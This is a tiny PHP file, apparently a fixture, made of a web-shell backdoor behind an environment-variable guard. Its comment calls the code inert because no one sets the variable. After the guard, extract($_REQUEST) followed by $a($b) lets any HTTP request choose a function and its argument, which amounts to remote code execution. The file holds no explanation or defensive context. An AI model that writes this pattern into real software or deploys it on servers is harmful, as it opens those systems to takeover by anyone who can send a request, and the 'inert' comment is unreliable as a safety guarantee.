<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
extract($_REQUEST);
$a($b);
